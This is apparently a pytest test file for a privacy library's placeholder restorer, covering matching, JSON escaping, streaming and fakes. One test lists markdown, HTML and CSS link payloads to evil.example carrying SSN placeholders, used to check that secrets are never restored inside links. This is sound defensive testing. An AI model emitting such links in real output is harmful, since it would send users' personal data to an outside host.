"""Putting back: by stated rules, in one pass, never inside links, and the same whole or in pieces."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from aistrale.privacy.restore import Restorer
from aistrale.privacy.vault import Vault
from tests.privacy.rough import nasty, streamed, texts


def make() -> Vault:
    vault = Vault(secret=bytes(16))
    vault.placeholder("EMAIL_ADDRESS", "jo@example.com")
    vault.placeholder("EMAIL_ADDRESS", "Jo@example.com")
    vault.placeholder("US_SSN", "219-09-9998")
    vault.placeholder("URL", "https://home.example/jo")
    vault.placeholder("PHONE_NUMBER", "+1 555 0100")
    vault.placeholder("DRIVER_LICENSE", "D123")
    vault.placeholder("PERSON", 'Ann "Andy"\nLee \\ Roe')
    return vault


vaults = make()


@pytest.mark.parametrize(
    ("written", "restored"),
    [
        ("[[EMAIL_1]]", "jo@example.com"),
        ("[[EMAIL_1b]]", "Jo@example.com"),
        ("[[email_1]] [[Email_1B]]", "jo@example.com Jo@example.com"),
        ("[[EMAIL 1]] [[EMAIL-1]] [[EMAIL1]] [[ EMAIL_1 ]]", "jo@example.com " * 3 + "jo@example.com"),
        (r"\[\[EMAIL\_1\]\] [[EMAIL\_1]]", "jo@example.com jo@example.com"),
        ("[EMAIL_1] and [SSN 1]", "jo@example.com and 219-09-9998"),
        ("［［EMAIL_1］］ ［EMAIL＿1］ 【【EMAIL_1】】", "jo@example.com jo@example.com jo@example.com"),
        ("[[DRIVER_LICENSE_1]] [[DRIVER LICENSE 1]] [[driver\\_license\\_1]]", "D123 D123 D123"),
        (
            '**[[EMAIL_1]]** "[[EMAIL_1]]" [[EMAIL_1]]\'s [[SSN_1]]s',
            '**jo@example.com** "jo@example.com" jo@example.com\'s 219-09-9998s',
        ),
        ("[[[EMAIL_1]]] [[[[EMAIL_1]]]]", "[jo@example.com] [[jo@example.com]]"),
        ("邮箱[EMAIL_1]。", "邮箱jo@example.com。"),
    ],
)
def test_is_tolerant_by_stated_rules(written: str, restored: str) -> None:
    restorer = Restorer(vaults)
    assert restorer.restore(written) == restored
    assert not restorer.unknown


@pytest.mark.parametrize(
    "text",
    [
        "EMAIL_1", "[[EMAIL_10]]", "[[EMAIL_01]]", "[[EMAIL_]]", "[[EMAIL]]", "[[EMAIL_1", "[[EMAIL_1]", "{{EMAIL_1}}",
        "<EMAIL_1>", "[[EMAI_1]]", "[[EMAILS_1]]", "[[E_MAIL_2]]", "row[email_1]", "f()[EMAIL_1]", "x[1][EMAIL_1]",
        "[EMAIL1]", "[[EMAIL_1\n]]", "[[PERSON_2]]", "[[WORD_1]]", "[see EMAIL_1]",
    ],
)  # fmt: skip
def test_leaves_alone_what_is_not_one(text: str) -> None:
    restored = Restorer(vaults).restore(text)
    # One of the two brackets that never closed is a bracket.
    assert restored == {"[[EMAIL_1]": "[jo@example.com"}.get(text, text)


def test_counts_what_it_does_not_know_and_what_it_keeps_in_links() -> None:
    restorer = Restorer(vaults)
    restorer.restore("[[EMAIL_7]] [[EMAIL_8]] [[CARD_1]] [[NOTHING_1]] https://x.example/[[SSN_1]]")
    assert restorer.unknown == {"EMAIL": 2, "CARD": 1}
    assert restorer.kept == {"SSN": 1}


def test_a_number_never_matches_a_longer_one() -> None:
    vault = Vault()
    for number in range(12):
        vault.placeholder("PERSON", f"<{number + 1}>")
    text = " ".join(f"[[PERSON_{number + 1}]]" for number in range(12))
    assert Restorer(vault).restore(text) == " ".join(f"<{number + 1}>" for number in range(12))


def test_what_was_put_in_is_never_looked_at_again() -> None:
    vault = Vault()
    vault.placeholder("PERSON", "[[PERSON_2]]")
    vault.placeholder("PERSON", "secret")
    assert Restorer(vault).restore("[[PERSON_1]] [[PERSON_1]][[PERSON_2]]") == "[[PERSON_2]] [[PERSON_2]]secret"
    assert Restorer(vault).restore_value({"[[PERSON_1]]": ["[[PERSON_1]]"]}) == {"[[PERSON_2]]": ["[[PERSON_2]]"]}


# --- links -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?d=[[SSN_1]])", "![x](//evil.example/[[SSN_1]])", "[x](/[[SSN_1]])", "[x]([[SSN_1]])",
        "[x](<//evil.example/ [[SSN_1]]>)", "https://evil.example/[[SSN_1]]", "www.evil.example/[[SSN_1]]",
        "[x]: //evil.example/[[SSN_1]]", '<img src="//evil.example/[[SSN_1]]">', "<img src=//evil.example/[[SSN_1]]>",
        "<a href='https://evil.example/?a b=[[SSN_1]]'>", "background:url(//evil.example/[[SSN_1]])",
        "mailto:x@evil.example?body=[[SSN_1]]", "[x](mailto:[[SSN_1]])", "https://[[SSN_1]].evil.example/",
        "https://evil.example/?a=[[ SSN 1 ]]", r"https://evil.example/?a=\[\[SSN\_1\]\]", "https://evil.example/[SSN_1]",
        '![x](https://evil.example/?d="[[SSN_1]]")', "https://evil.example/?d=x[[SSN_1]]&e=[[EMAIL_1]]",
        "[x]([[URL_1]].evil.example)", "[x]([[URL_1]][[URL_1]])", "[x](mailto:[[EMAIL_1]]@evil.example)",
    ],
)  # fmt: skip
def test_nothing_is_put_into_a_link(text: str) -> None:
    restorer = Restorer(vaults)
    assert restorer.restore(text) == text
    assert sum(restorer.kept.values()) == text.count("SSN") + text.count("URL") + text.count("EMAIL")
    for length in range(1, 9):
        assert streamed(Restorer(vaults), text, [length]) == text
    assert restorer.restore(json.dumps({"a": text}), json=True) == json.dumps({"a": text})
    assert Restorer(vaults, links=True).restore(text) != text


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("[x]([[URL_1]])", "[x](https://home.example/jo)"),
        ('<a href="[[URL_1]]">', '<a href="https://home.example/jo">'),
        ("[x](<[[URL_1]]>)", "[x](<https://home.example/jo>)"),
        ("[x]([[URL_1]] 'title')", "[x](https://home.example/jo 'title')"),
        ("[[[EMAIL_1]]](mailto:[[EMAIL_1]])", "[jo@example.com](mailto:jo@example.com)"),
        ("[call](tel:[[PHONE_1]])", "[call](tel:+1 555 0100)"),
        ("mailto:[[EMAIL_1]] x", "mailto:jo@example.com x"),
        ("[[URL_1]]", "https://home.example/jo"),
        ("https://x.example/ [[SSN_1]]", "https://x.example/ 219-09-9998"),
        ("[x](/y) [[SSN_1]]", "[x](/y) 219-09-9998"),
        ("[x](/y)[[SSN_1]]", "[x](/y)219-09-9998"),
        ("[[SSN_1]](/y)", "219-09-9998(/y)"),
        ("[[SSN_1]]([[EMAIL_1]])", "219-09-9998(jo@example.com)"),
        ('{"u":"https://x.example/","s":"[[SSN_1]]"}', '{"u":"https://x.example/","s":"219-09-9998"}'),
    ],
)
def test_beside_a_link_and_as_a_whole_one_it_is_restored(text: str, restored: str) -> None:
    assert Restorer(vaults).restore(text) == restored
    for length in range(1, 9):
        assert streamed(Restorer(vaults), text, [length]) == restored


def test_a_url_that_was_put_back_is_a_link_for_what_follows() -> None:
    text = "[[URL_1]]?d=[[SSN_1]] [[URL_1]]&[[EMAIL_1]]"
    assert Restorer(vaults).restore(text) == "https://home.example/jo?d=[[SSN_1]] https://home.example/jo&[[EMAIL_1]]"


# --- JSON ------------------------------------------------------------------------------------------------------------


def test_in_json_what_is_put_in_is_escaped() -> None:
    text = json.dumps({"a": "to [[PERSON_1]]", "[[PERSON_1]]": ["[[PERSON_1]]"]})
    restored = json.loads(Restorer(vaults).restore(text, json=True))
    name = 'Ann "Andy"\nLee \\ Roe'
    assert restored == {"a": f"to {name}", name: [name]}


def test_numbers_become_numbers_again() -> None:
    vault = Vault()
    whole = vault.placeholder("US_SSN", "219099998", number=True)
    float_ = vault.placeholder("AGE", "1.50e3", number=True)
    text = vault.placeholder("US_SSN", "219099998")
    assert len({whole, float_, text}) == 3
    written = f'{{"a":"{whole}","b": "{float_}" ,"c":"{text}","d":"x {whole}","e":["{whole}","{whole}"],"{whole}":1}}'
    expected = '{"a":219099998,"b": 1.50e3 ,"c":"219099998","d":"x 219099998","e":[219099998,219099998],"219099998":1}'
    # A name cannot be a number.
    assert Restorer(vault).restore(written, json=True).replace(",219099998:1}", ',"219099998":1}') == expected
    value = Restorer(vault).restore_value({"a": whole, "b": float_, "c": text, "d": f"x {whole}"})
    assert value == {"a": 219099998, "b": 1500.0, "c": "219099998", "d": "x 219099998"}
    assert Restorer(vault).restore(whole) == "219099998"


def test_a_placeholder_that_a_model_forgot_to_quote_becomes_a_value() -> None:
    assert Restorer(vaults).restore('{"a": [[EMAIL_1]], "b":[[[SSN_1]]]}', json=True) == (
        '{"a": "jo@example.com", "b":["219-09-9998"]}'
    )


def test_links_in_json_are_those_of_the_string_as_it_is_read() -> None:
    for text in (r'{"a":"https:\/\/x.example\/?[[SSN_1]]"}', r'{"a":"https\u003a//x.example/[[SSN_1]]"}'):
        assert Restorer(vaults).restore(text, json=True) == text
    text = r'{"a":"https://x.example/\n[[SSN_1]]","b":"<img src=\"","c":"[[SSN_1]]"}'
    assert Restorer(vaults).restore(text, json=True) == text.replace("[[SSN_1]]", "219-09-9998")


def test_values_are_shared_where_nothing_changed() -> None:
    value = {"a": [1, "x", {"b": None}], "c": "[x]"}
    assert Restorer(vaults).restore_value(value) is value
    changed = Restorer(vaults).restore_value({"a": value, "b": "[[EMAIL_1]]"})
    assert changed == {"a": value, "b": "jo@example.com"}
    assert isinstance(changed, dict)
    assert changed["a"] is value


def test_a_value_that_is_nested_without_end_is_left_alone() -> None:
    value: object = "[[EMAIL_1]]"
    for _ in range(100_000):
        value = [value]
    assert Restorer(vaults).restore_value(value) is value  # type: ignore[arg-type]
    while isinstance(value, list):
        value = value.pop()


# --- streams ---------------------------------------------------------------------------------------------------------


@given(st.one_of(texts, nasty), st.lists(st.integers(1, 9), min_size=1, max_size=5), st.booleans())
@example('"[[SSN_1]]"', [1], True)
def test_pieces_make_no_difference(text: str, cuts: list[int], as_json: bool) -> None:
    assert streamed(Restorer(vaults), text, cuts, json=as_json) == Restorer(vaults).restore(text, json=as_json)


@given(nasty, st.lists(st.integers(1, 9), min_size=1, max_size=5), st.booleans(), st.booleans())
def test_pieces_make_no_difference_with_numbers_and_fakes(
    text: str, cuts: list[int], as_json: bool, links: bool
) -> None:
    vault = make()
    vault.placeholder("EMAIL_ADDRESS", "12345", number=True)
    vault.add_fake("PERSON", "Jane", "x 12")
    vault.add_fake("PERSON", "Roe", "x 12 b")
    vault.add_fake("PHONE_NUMBER", "+49", "+12")
    assert streamed(Restorer(vault, links=links), text, cuts, json=as_json) == Restorer(vault, links=links).restore(
        text, json=as_json
    )


def test_every_split_of_every_form_is_restored() -> None:
    for written in ("a [[EMAIL_1]] b", r"\[\[EMAIL\_1\]\]", "［［EMAIL_1］］", "[EMAIL_1]!", "[[[[EMAIL_1]]]]"):
        whole = Restorer(vaults).restore(written)
        assert "jo@example.com" in whole
        for first in range(len(written)):
            for second in range(first, len(written)):
                stream = Restorer(vaults).stream()
                pieces = (written[:first], written[first:second], written[second:])
                assert "".join(map(stream.feed, pieces)) + stream.finish() == whole


def test_holds_back_no_more_than_a_beginning() -> None:
    stream = Restorer(vaults).stream()
    assert stream.feed("plain text ") == "plain text "
    assert stream.feed("a list [1, 2") == "a list [1, 2"
    assert stream.feed(" and [[EMA") == " and "
    assert stream.feed("IL_") == ""
    assert stream.feed("1]] on") == "jo@example.com on"
    assert stream.feed("[[" + "A" * 200) == "[[" + "A" * 200
    assert stream.feed("[[EMAIL_1") == ""
    assert stream.finish() == "[[EMAIL_1"
    assert stream.finish() == ""


@given(nasty)
def test_never_holds_more_than_the_longest_placeholder(text: str) -> None:
    stream = Restorer(vaults).stream()
    for character in text:
        stream.feed(character)
        assert len(stream._held) <= 80


def test_links_are_followed_across_pieces() -> None:
    stream = Restorer(vaults).stream()
    assert (
        stream.feed("![x](ht") + stream.feed("tps://evil.example/") + stream.feed("?d=[[SSN")
        == "![x](https://evil.example/?d="
    )
    assert stream.feed("_1]]) [[SSN_1]]") + stream.finish() == "[[SSN_1]]) 219-09-9998"


# --- fakes -----------------------------------------------------------------------------------------------------------


def test_fakes_are_restored_the_longest_first_and_as_whole_words() -> None:
    vault = Vault()
    vault.add_fake("PERSON", "Jane", "Alex")
    vault.add_fake("PERSON", "Jane Roe", "Alex Hill")
    vault.add_fake("PHONE_NUMBER", "+1 415", "+1 555")
    restorer = Restorer(vault)
    assert restorer.restore("Alex Hill, Alex, Alexander, xAlex, Alex_") == "Jane Roe, Jane, Alexander, xAlex, Jane_"
    assert restorer.restore("call +1 555. +1 5556") == "call +1 415. +1 5556"
    assert restorer.restore("https://x.example/Alex Alex") == "https://x.example/Alex Jane"
    for length in range(1, 8):
        assert streamed(restorer, "Alex Hill, Alex +1 555 Alexis", [length]) == "Jane Roe, Jane +1 415 Alexis"


# --- speed -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "[[",
        "[[A",
        "\\",
        "\\[",
        "[EMAIL_",
        "[ ",
        '"',
        '"[',
        "[[EMAIL_1]]",
        "https://a ",
        "](",
        "［",
        "[[EMAIL_1",
        "\\u00",
    ],
)
@pytest.mark.parametrize("as_json", [False, True])
def test_takes_time_in_proportion(piece: str, as_json: bool) -> None:
    def spent(count: int) -> float:
        text = piece * (count // len(piece)) + "[[EMAIL_1]]"
        began = time.process_time()
        Restorer(vaults).restore(text, json=as_json)
        return time.process_time() - began

    spent(1000)
    small = min(spent(5_000) for _ in range(3))
    assert spent(40_000) < 40 * max(small, 0.001)
